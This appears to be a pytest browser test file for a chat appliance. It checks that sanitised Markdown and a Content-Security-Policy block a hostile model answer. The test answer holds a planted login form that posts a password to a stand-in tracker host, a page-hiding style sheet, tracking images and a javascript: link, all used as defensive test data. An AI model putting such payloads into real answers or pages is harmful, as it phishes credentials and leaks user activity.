"""Issue 12: chat Markdown kept ``<form>``, ``<style>`` and remote ``<img>``, and no page had a
Content-Security-Policy. An engine double answers with a planted login form, a style sheet that
hides the page and two tracking images (Markdown and HTML); in Chromium none of it may render or
reach the tracker, and the page keeps working under its CSP."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from appliance.accounts.models import User
from appliance.chat.tests.factories import running_deployment
from appliance.chat.tests.fake_engine import FakeEngine, Script
from bench.synthetic_upstream import SyntheticUpstream
from conftest import PASSWORD
from tests.browser.test_chat_flow import _log_in_and_open_chat, console_env, engine  # noqa: F401 - fixtures

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


@pytest.fixture
def tracker() -> Iterator[SyntheticUpstream]:
    """A server standing in for evil.example: records every request the page makes to it."""
    server = SyntheticUpstream(model="tracker").start_in_thread()
    yield server
    server.stop_thread()


def hostile_answer(tracker: str) -> list[str]:
    return [
        "请登录以继续：\n\n",
        f'<form action="{tracker}/steal" method="post"><input name="password" type="password">',
        "<button>登录</button></form>\n\n",
        "<style>body { display: none }</style>\n\n",
        f"![]({tracker}/pixel.gif?md=1)\n\n",
        f'<img src="{tracker}/pixel.gif?html=1" alt="">\n\n',
        f'<a href="javascript:alert(1)">点此</a> 与 [正常链接]({tracker}/page) 以及 $\\sqrt{{2}}$ 和 **粗体**。',
    ]


def test_a_planted_form_style_and_tracking_images_do_not_render_or_load(
    console_url: str,
    strict_page: Any,
    personas: dict[str, User],
    engine: FakeEngine,  # noqa: F811
    tracker: SyntheticUpstream,
) -> None:
    page = strict_page
    alice = personas["alice"]
    running_deployment(alice.department, alice, engine.model, engine.port)
    engine.default = Script(content=hostile_answer(tracker.base_url))
    violations: list[str] = []
    page.on("console", lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None)
    _log_in_and_open_chat(page, console_url, "bob")
    page.wait_for_selector(f"[data-testid=model-picker] option[value='{engine.model}']", state="attached")
    page.fill("[data-testid=composer]", "请用 HTML 回答")
    page.press("[data-testid=composer]", "Enter")
    done = page.locator("[data-testid=assistant-message][data-status=complete] [data-testid=answer]")
    done.wait_for(timeout=20_000)

    for tag in ("form", "input", "button", "style", "img"):
        assert done.locator(tag).count() == 0, tag
    assert done.locator("strong").inner_text() == "粗体" and done.locator(".katex").count() == 1
    assert done.locator("a[href^=javascript]").count() == 0
    assert done.locator("a[href$='/page']").get_attribute("rel") == "noopener noreferrer"
    assert page.is_visible("[data-testid=composer]")  # the planted style sheet hid nothing
    # Even an element that slipped past the sanitiser could not load from elsewhere: the CSP says so.
    plant = "(url) => { const i = new Image(); i.src = url; document.body.append(i); }"
    page.evaluate(plant, f"{tracker.base_url}/pixel.gif?script=1")
    page.wait_for_timeout(500)
    assert tracker.stats.requests == 0, tracker.stats.paths
    assert any("img-src" in v for v in violations), violations


def test_every_page_has_a_content_security_policy(console_url: str) -> None:
    # (django-csp leaves DEBUG error pages, 404 and 500, without the header so they still work.)
    for path in ("/login/", "/healthz", "/api/v1/users/", "/chat/"):
        policy = httpx.get(f"{console_url}{path}").headers.get("Content-Security-Policy", "")
        assert "default-src 'self'" in policy and "script-src 'self'" in policy, (path, policy)
        assert "form-action 'self'" in policy and "frame-ancestors 'none'" in policy, (path, policy)
        directives = dict(d.strip().partition(" ")[::2] for d in policy.split(";"))
        assert "unsafe" not in directives["script-src"] + directives["style-src"], (path, policy)


def test_pages_work_under_the_policy_without_inline_handlers(
    console_url: str,
    strict_page: Any,
    personas: dict[str, User],
) -> None:
    """The policy refuses inline event handlers: the select boxes that submit their form on change
    (language, the capacity page's scope) do it from a static script."""
    page = strict_page
    violations: list[str] = []
    page.on("console", lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None)
    page.goto(f"{console_url}/login/")
    page.fill("input[name=username]", "bob")
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url(f"{console_url}/")
    page.select_option("[data-testid=language]", "en")
    page.wait_for_load_state("load")
    page.locator("html[lang=en]").wait_for()
    assert violations == []
